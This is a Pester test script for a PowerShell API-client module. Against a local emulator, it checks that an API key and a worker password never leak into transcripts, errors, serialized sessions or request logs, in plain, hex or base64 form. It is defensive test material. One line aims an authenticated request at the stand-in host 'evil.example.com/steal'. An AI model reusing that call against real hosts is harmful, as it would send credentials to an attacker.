# The secret scan: the API key and passwords must not appear in any stream, transcript, error,
# exception text, ToString, ConvertTo-Json or Export-Clixml, whatever the cmdlets did.
BeforeAll {
    . (Join-Path $PSScriptRoot 'TestHelpers.ps1')
    Import-Module $ModulePsd1 -Force
    $script:emu = Start-TestEmulator
    $script:url = $emu.Url
    $script:workerPassword = 'Worker-Secret-Pw-9931'
    # The secrets in every encoding a leak could take: plain, UTF-16 hex (Export-Clixml of a PSCredential on Linux), base64 of the header value.
    function script:Test-NoSecret([string] $Text, [string] $Where) {
        foreach ($secret in $AdminKey, $workerPassword) {
            $forms = @($secret,
                (($secret.ToCharArray() | ForEach-Object { '{0:x2}00' -f [int]$_ }) -join ''),
                [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("${AdminUser}:$secret")))
            foreach ($f in $forms) { $Text.Contains($f) | Should -BeFalse -Because "$Where must not contain a secret" }
        }
    }
}
AfterAll { Stop-TestEmulator $emu }

Describe 'Secrets never leak' {
    It 'a transcript of a whole working session, with -Verbose, -Debug, errors and retries, holds no secret' {
        $transcript = Join-Path ([IO.Path]::GetTempPath()) ("cc-transcript-" + [guid]::NewGuid() + '.txt')
        Start-Transcript -Path $transcript | Out-Null
        $collected = [Collections.Generic.List[string]]::new()
        try {
            $s = Connect-TestServer $url
            $s | Format-List * | Out-String | ForEach-Object { $collected.Add($_) }
            $collected.Add(($s | ConvertTo-Json -Depth 6))
            $collected.Add($s.ToString())
            Get-CCCase -First 3 -Verbose -Debug | Out-String | ForEach-Object { $collected.Add($_) }
            Get-CCForm -First 2 -Verbose -Debug | Out-String | ForEach-Object { $collected.Add($_) }
            New-CCMobileWorker -UserName secretscan1 -Password $workerPassword -FirstName Scan -Verbose -Debug | Out-String | ForEach-Object { $collected.Add($_) }
            Set-CCMobileWorker -Id (Get-CCMobileWorker -UserName secretscan1).Id -Password "$workerPassword-2" -Verbose -Debug -ErrorAction SilentlyContinue | Out-Null
            New-CCCase -CaseType patient -Name 'Scan' -OwnerId (Get-CCMobileWorker -UserName worker1).Id -Verbose -Debug | Out-Null
            Invoke-Emu $url 'faults' -Body @{ script = @('500', '429', 'drop') } | Out-Null
            Get-CCCase -First 1 -Verbose -Debug | Out-Null
            Invoke-Emu $url 'faults' -Body @{ script = @('500', '500', '500', '500', '500') } | Out-Null
            try { Get-CCCase -Session (Set-CCSessionOption -Session $s -MaxRetryCount 1 -PassThru) -First 1 -Verbose -Debug } catch { $collected.Add(($_ | Out-String)); $collected.Add($_.Exception.ToString()) }
            Invoke-Emu $url 'faults' -Method DELETE | Out-Null
            try { Connect-CCServer -Server $url -Domain demo -UserName $AdminUser -ApiKey (ConvertTo-SecureString "$AdminKey-wrong" -AsPlainText -Force) } catch { $collected.Add(($_ | Out-String)); $collected.Add($_.Exception.ToString()) }
            try { Invoke-CCRestMethod -Path 'https://evil.example.com/steal' } catch { $collected.Add(($_ | Out-String)) }
            $collected.Add((Invoke-CCRestMethod -Path 'v0.5/case/' -Query @{ limit = 1 } -Raw | Out-String))
        }
        finally {
            Stop-Transcript | Out-Null
        }
        $text = Get-Content $transcript -Raw
        $text | Should -BeLike '*GET /a/demo/api/v0.5/case/*'        # the transcript did record the requests
        $text | Should -BeLike '*Authorization: ****'
        Test-NoSecret $text 'the transcript'
        foreach ($c in $collected) { Test-NoSecret $c 'an output' }
        foreach ($e in $Error) { Test-NoSecret ($e | Out-String) '$Error'; Test-NoSecret $e.Exception.ToString() 'an exception' }
        $xml = Join-Path ([IO.Path]::GetTempPath()) ("cc-" + [guid]::NewGuid() + '.xml')
        Get-CCSession | Export-Clixml $xml
        Test-NoSecret (Get-Content $xml -Raw) 'Export-Clixml of the session'
        Test-NoSecret ((Invoke-Emu $url 'requests' -Method GET) | ConvertTo-Json -Depth 5) 'the emulator request log (what the module sent in URLs)'
        Remove-Item $transcript, $xml -ErrorAction SilentlyContinue
    }
}
